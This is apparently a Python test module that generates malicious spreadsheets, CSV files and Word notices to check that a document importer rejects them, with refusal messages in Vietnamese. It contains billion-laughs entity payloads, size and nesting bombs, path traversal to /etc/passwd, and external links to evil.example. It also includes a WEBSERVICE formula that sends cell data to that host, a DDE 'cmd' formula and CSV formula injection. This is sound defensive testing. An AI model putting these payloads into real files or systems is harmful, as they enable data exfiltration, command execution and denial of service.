"""Spreadsheets and notices that mean harm; each is refused with words or read without any."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.materials import samples as documents
from tests.tasks.importing import samples

SHEET = "xl/worksheets/sheet1.xml"
_BOOK = samples.book([[1, "Việc", "Sở Tài chính", None, "1/12/2026"]])
_ROW = '<row r="3"><c r="B3" t="inlineStr"><is><t>Thêm</t></is></c></row>'
_LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
_RELATION = (
    '<Relationship Id="rId99" Target="{target}" TargetMode="External" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
)


@dataclass(frozen=True)
class Harm:
    """One file, and the words of the refusal; empty where it is read as the plain lines it has."""

    name: str
    content: bytes
    refusal: str = ""


def changed(part: str, change: Callable[[str], str], book: bytes = _BOOK) -> bytes:
    """Return a workbook with one part changed; a new one begins empty."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(written, "w", 8) as new:
        for name in old.namelist():
            text = old.read(name)
            new.writestr(name, change(text.decode()) if name == part else text)
        if part not in old.namelist():
            new.writestr(part, change(""))
    return written.getvalue()


def row(xml: str) -> bytes:
    """Return a workbook with a further row, as XML."""
    return changed(SHEET, lambda s: s.replace("</sheetData>", f"{xml}</sheetData>"))


def typed(part: str) -> bytes:
    """Return a workbook with a document type in a part."""
    return changed(part, lambda s: s.replace("?>", f"?>{_LAUGHS}", 1) if "?>" in s else _LAUGHS + s)


def related(kind: str, target: str) -> bytes:
    """Return a workbook that names something outside."""
    relation = _RELATION.format(kind=kind, target=target)
    return changed("xl/_rels/workbook.xml.rels", lambda s: s.replace("</Relationships>", relation))


def sheets() -> list[Harm]:
    """Every spreadsheet."""
    return [*_swelling(), *_lying(), *_reaching(), *_others(), *_separated()]


def _swelling() -> Iterator[Harm]:
    huge = changed(SHEET, lambda s: s.replace("</sheetData>", " " * (40 << 20) + "</sheetData>"))
    yield Harm("a bomb of blanks", huge, "phình ra")
    yield Harm("laughing sheet", typed(SHEET), "hỏng")
    yield Harm("laughing strings", typed("xl/sharedStrings.xml"), "hỏng")
    yield Harm("laughing workbook", typed("xl/workbook.xml"), "hỏng")
    yield Harm("laughing styles", typed("xl/styles.xml"), "hỏng")
    deep = "<a>" * 200_000 + "</a>" * 200_000
    yield Harm("a deep tree", row(f'<row r="3"><c r="B3"><v>1</v>{deep}</c></row>'))
    cells = '<c t="inlineStr"><is><t>x</t></is></c>' * 50_000
    yield Harm("50 000 columns", row(f'<row r="3">{cells}</row>'))
    rows = "".join(
        f'<row r="{n}"><c r="B{n}" t="inlineStr"><is><t>v</t></is></c></row>'
        for n in range(3, 60_000)
    )
    yield Harm("60 000 lines", row(rows), "hơn 5000 dòng")
    merged = "".join(f'<mergeCell ref="B{n}:B{n + 9000}"/>' for n in range(2, 60_000))
    yield Harm("60 000 joined cells", changed(SHEET, lambda s: _with_merged(s, merged)))
    long = f'<row r="3"><c r="B3" t="inlineStr"><is><t>{"dài " * 2_000_000}</t></is></c></row>'
    yield Harm("a cell of 8 MB", row(long))
    items = "<si><t>x</t></si>" * 300_000
    strings = changed("xl/sharedStrings.xml", lambda s: s.replace("</sst>", items + "</sst>"))
    yield Harm("300 000 strings", strings)


def _with_merged(sheet: str, merged: str) -> str:
    return sheet.replace("</sheetData>", f"</sheetData><mergeCells>{merged}</mergeCells>")


def _joined(reference: str) -> bytes:
    return changed(SHEET, lambda s: _with_merged(s, f'<mergeCell ref="{reference}"/>'))


def _lying() -> Iterator[Harm]:
    def sized(ref: str) -> bytes:
        return changed(
            SHEET, lambda s: s.replace('<dimension ref="A1:J2"', f'<dimension ref="{ref}"')
        )

    yield Harm("says it is full", sized("A1:XFD1048576"))
    yield Harm("says it is empty", sized("A1"))
    yield Harm("says nonsense of its size", sized("ZZZZ9:A0"), "Không đọc")
    for number, place in (("3", "ZZZZ3"), ("3", "B"), ("3", "!"), ("x", "B3")):
        xml = f'<row r="{number}"><c r="{place}" t="inlineStr"><is><t>x</t></is></c></row>'
        yield Harm(f"a cell at {place} of {number}", row(xml), "Không đọc")
    last = '<row r="1048576"><c r="B1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    yield Harm("the very last cell", row(last))
    yield Harm("a line beyond all", row('<row r="99999999999"><c r="B3"><v>1</v></c></row>'))
    absent = row('<row r="3"><c r="B3" t="s"><v>999</v></c></row>')
    yield Harm("a string that is not there", absent, "Không đọc")
    yield Harm("a number beyond all", row('<row r="3"><c r="B3"><v>1e400</v></c></row>'))
    yield Harm("no number", row('<row r="3"><c r="B3"><v>một</v></c></row>'), "Không đọc")
    yield Harm("joined over everything", _joined("A1:XFD1048576"))
    yield Harm("joined nonsense", _joined("!!"), "Không đọc")
    called = '<f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>kết quả</v>'
    yield Harm(
        "a formula that reaches out", row(f'<row r="3"><c r="B3" t="str">{called}</c></row>')
    )
    yield Harm("a formula that runs", row(
        "<row r=\"3\"><c r=\"B3\" t=\"str\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>"
    ))  # fmt: skip
    yield Harm(
        "a broken formula", row('<row r="3"><c r="B3" t="e"><f>A0</f><v>#REF!</v></c></row>')
    )


def _reaching() -> Iterator[Harm]:
    yield Harm(
        "a template outside", related("attachedTemplate", "http://evil.example/t"), "nơi khác"
    )
    yield Harm("an object outside", related("oleObject", "file://evil.example/x"), "nơi khác")
    yield Harm("a connection outside", related("image", "http://evil.example/i.png"), "nơi khác")
    yield Harm("a link nobody follows", related("hyperlink", "http://evil.example/"))
    for target in ("../../../../../../etc/passwd", "/etc/passwd", "worksheets/none.xml"):
        moved = changed(
            "xl/_rels/workbook.xml.rels",
            lambda s, to=target: s.replace("/xl/worksheets/sheet1.xml", to),  # type: ignore[misc]
        )
        yield Harm(f"a sheet at {target}", moved, "không có dòng nào")
    yield Harm("a macro", changed("xl/vbaProject.bin", lambda s: "x"), "macro")
    sheet = changed(
        "[Content_Types].xml",
        lambda s: s.replace("sheet.main+xml", "sheet.macroEnabled.main+xml"),
    )
    yield Harm("a macro by its type", sheet, "macro")
    yield Harm("a control", changed("xl/activeX/activeX1.xml", lambda s: "<a/>"), "nhúng")


def _others() -> Iterator[Harm]:
    yield Harm("nothing", b"", "rỗng")
    yield Harm("half of it", _BOOK[: len(_BOOK) // 2], "hỏng")
    yield Harm("something behind it", _BOOK + b"<script>" * 10, "hỏng")
    locked = bytearray(_BOOK)
    locked[6] |= 1
    yield Harm("locked", bytes(locked), "")
    yield Harm("any archive", documents.plain_zip(), "tệp nén")
    yield Harm("an old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), "Office cũ")
    yield Harm("a letter", documents.docx(), "bảng tính")
    yield Harm("a picture", documents.png(), "bảng tính")
    yield Harm("no workbook", changed("xl/workbook.xml", lambda s: "<x/>"), "không có dòng")
    yield Harm("broken XML", changed(SHEET, lambda s: s[:-30]), "Không đọc")


def _separated() -> Iterator[Harm]:
    head = "Nội dung;Chủ trì;Hạn\nViệc;Sở Tài chính;1/12/2026\n"
    yield Harm("csv: formulas", (head + '=1+1;@SUM(A1);+1\n"=cmd|x";-2;3').encode())
    yield Harm("csv: a zero byte", head.encode() + b"\0;\0", "Không nhận ra")
    yield Harm(
        "csv: another coding", head.encode("cp1258", "replace") + b"\x8d\xff", "Không nhận ra"
    )
    yield Harm("csv: a million columns", (head + ";" * 1_000_000 + "x").encode())
    yield Harm("csv: a quote never closed", (head + '"' + "chữ " * 500_000).encode(), "Không đọc")
    yield Harm("csv: 9 000 lines", (head + "Việc;Sở;1/1\n" * 9_000).encode(), "hơn 5000 dòng")
    yield Harm("csv: words that turn round", (head + "\u202eviệc\u2066;Sở\u200b;x").encode())
    yield Harm("csv: a page", b"<html><script>alert(1)</script></html>")
    yield Harm("csv: and an archive", head.encode() + _BOOK, "")


def notices() -> Iterator[Harm]:
    """Every notice."""
    part = "word/document.xml"
    letter = samples.notice_docx()

    def put(words: str) -> bytes:
        return changed(part, lambda s: s.replace("<w:body>", f"<w:body>{words}", 1), letter)

    laughing = changed(part, lambda s: s.replace("?>", f"?>{_LAUGHS}", 1), letter)
    yield Harm("a laughing letter", laughing, "hỏng")
    yield Harm("a letter with a program", documents.macro_docx(), "macro")
    long = put("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 30_000)
    yield Harm("a letter of 30 000 paragraphs", long, "Không đọc")
    yield Harm("a deep letter", put("<w:sdt>" * 200_000 + "</w:sdt>" * 200_000), "Không đọc")
    yield Harm("a spreadsheet", _BOOK, ".docx")
    yield Harm("half a letter", letter[:2000], "hỏng")
    yield Harm("a picture", documents.png(), ".docx")
    yield Harm("a letter that swells", put(" " * (40 << 20)), "phình ra")
